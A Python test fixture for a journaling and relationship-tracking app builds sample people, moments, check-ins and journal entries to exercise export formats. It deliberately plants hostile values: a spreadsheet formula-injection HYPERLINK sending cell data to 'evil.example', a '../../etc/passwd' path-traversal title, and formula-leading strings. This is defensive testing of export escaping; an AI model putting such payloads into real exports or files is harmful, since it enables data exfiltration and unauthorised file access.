"""An account with a little of everything for the export formats, hostile text included."""

from __future__ import annotations

import io
from datetime import UTC, date, datetime

from tending.checkins.models import CheckIn
from tending.core.models import Tag
from tending.journal.models import Entry
from tests.factories import JournalEntryFactory, MomentFactory, PersonFactory

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


class Pipe(io.RawIOBase):
    """A stream that cannot seek or tell, as standard output piped to another program is."""

    def __init__(self) -> None:
        self.data = bytearray()

    def writable(self) -> bool:
        return True

    def write(self, chunk) -> int:
        self.data += bytes(chunk)
        return len(chunk)


def fill(user, prefix: str = "") -> dict:
    """People, moments, check-ins and journal entries for `user`; names start with `prefix`."""
    zoe = PersonFactory(
        owner=user, name=f"{prefix}Zoë Ångström", ring="inner", kind="family", rhythm_days=7,
        phone="+49 170 1234567", email="zoe@example.org", other_contact="Signal",
        notes="Tea, not coffee;\nline two, with \\ backslash", birthday_day=29,
        birthday_month=2, is_safe=True,
    )  # fmt: skip
    eve = PersonFactory(owner=user, name=f"{prefix}{HOSTILE}", ring="outer", is_archived=True,
                        birthday_day=12, birthday_month=4, birthday_year=1985)  # fmt: skip
    plain = PersonFactory(owner=user, name=f"{prefix}Mum", ring="middle")  # nothing else known
    walk, danger = (Tag.objects.create(owner=user, name=f"{prefix}{n}") for n in ("walk", "@risk"))
    first = MomentFactory(
        owner=user, people=[zoe, eve], occurred_at=datetime(2026, 7, 1, 18, 5, tzinfo=UTC),
        note="-1 bad idea\r\nsecond line", channel="call", self_disclosure=3, felt_safe=5,
    )  # fmt: skip
    first.tags.set([walk, danger])
    MomentFactory(owner=user, people=[plain], occurred_at=datetime(2026, 1, 2, 9, 0, tzinfo=UTC))
    CheckIn.objects.create(
        owner=user, instrument_id="daily-pulse", instrument_version=1,
        answers={"mood": 4, "energy": 2, "stress": 5, "connected": None}, total=2.67,
        subscales={"mood": 4.0, "energy": 2.0, "calm": 1.0}, prorated=True,
        taken_at=datetime(2026, 7, 1, 22, 30, tzinfo=UTC),
    )  # fmt: skip
    CheckIn.objects.create(
        owner=user, instrument_id="stress", instrument_version=3, answers={"a": 1, "b": 2},
        total=-3.5, band_label="=low", taken_at=datetime(2026, 6, 1, 8, 0, tzinfo=UTC),
    )  # fmt: skip
    entry = JournalEntryFactory(
        owner=user, title=f"{prefix}../../etc/passwd", people=[zoe],
        body="# Heading\n\nZoë's **good** day — one two.", prompt_id="km-most-me-today",
        written_on=date(2026, 7, 1),
    )  # fmt: skip
    entry.tags.set([walk])
    Entry.objects.filter(pk=entry.pk).update(created_at=datetime(2026, 7, 1, 19, 45, tzinfo=UTC))
    JournalEntryFactory(owner=user, title="", body="+SUM(1)", written_on=date(2026, 7, 1))
    JournalEntryFactory(owner=user, title="", body="+SUM(1)", written_on=date(2026, 7, 1))
    return {"zoe": zoe, "eve": eve, "plain": plain, "entry": entry}
